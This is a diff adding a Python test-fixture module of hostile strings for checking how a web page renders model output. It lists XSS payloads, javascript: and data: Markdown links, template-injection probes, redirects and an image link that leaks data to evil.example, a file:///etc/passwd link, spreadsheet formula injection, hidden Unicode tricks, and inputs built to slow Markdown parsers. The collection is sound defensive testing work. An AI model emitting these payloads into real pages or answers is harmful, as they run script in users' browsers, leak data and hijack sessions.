@@ -1,0 +1,83 @@
+"""Texts that models, or whoever told them what to say, would like a page to run, to load or to hide."""
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
+    '<a href="javascript:alert(1)">x</a>',
+    '"><script>alert(1)</script>',
+    "'><svg onload=alert(1)>",
+    "</textarea></pre></title><script>alert(1)</script>",
+    "{{ 7*7 }} {% include 'frame.html' %} ${7*7} #{7*7}",
+    "<form action=/ui/sign-out method=post><button>win</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<style>body{display:none}</style>",
+    "<p style=position:fixed;inset:0 class=problem id=main data-key=t data-hx-get=/ui>x</p>",
+    "<button hx-post=/ui/sign-out data-hx-post=/ui/sign-out>x</button>",
+    "<!--<img src=--><img src=x onerror=alert(1)//>",
+    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+)
+MARKDOWN = (
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](/ui/sign-out)",
+    "[x](?since=2026-01-01)",
+    "[x](http:sign-out)",
+    "[x](#main)",
+    "<javascript:alert(1)>",
+    "![a secret](https://evil.example/?leak=1)",
+    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "[![x](https://evil.example/y.png)](https://evil.example)",
+    '![x"onerror=alert(1)](y)',
+    '[x](https://example.org "onmouseover=alert(1)")',
+    '[x](https://example.org/"onmouseover="alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[ref]: https://evil.example/<script>\n\n![ref] [ref]",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<script>alert(1)</script>`",
+    "| <script>alert(1)</script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
+    "# <img src=x onerror=alert(1)>",
+    "99999999999. x",
+)
+UNSEEN = (
+    "safe\u202egnp.exe",
+    "\u2066left\u2069 \u200fright",
+    "a\u200bb\u2060c\ufeffd\xade",
+    "bell \x07 back \x08 escape \x1b[31mred\x1b[0m null \x00 delete \x7f c1 \x9b31m",
+    "half \ud800 of a character",
+    "hidden \U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 tags",
+    "line \u2028 and paragraph \u2029",
+)
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("https://evil.example")', "'=1")
+SLOW = (
+    "[" * 20_000,
+    "![" * 10_000,
+    "*a_ " * 5_000,
+    "`" * 10_000 + "a" + "`" * 9_999,
+    ">" * 20_000,
+    "- " * 10_000,
+    "<" * 20_000,
+    "&" * 20_000,
+    "|" * 20_000 + "\n" + "|-" * 10_000,
+    "[a](" * 5_000,
+    "~~a" * 6_000,
+    "".join("`" * n + "a" for n in range(1, 200)),
+    "\\" * 20_000,
+    "<https://" * 2_000,
+)
+"""What makes some parsers of Markdown take time by the square of the length."""
+LONG = "A sentence of an answer that does not end. " * 48_000
+"""2 MB."""
+TEXTS = (*SCRIPTS, *MARKDOWN, *UNSEEN, *FORMULAS)
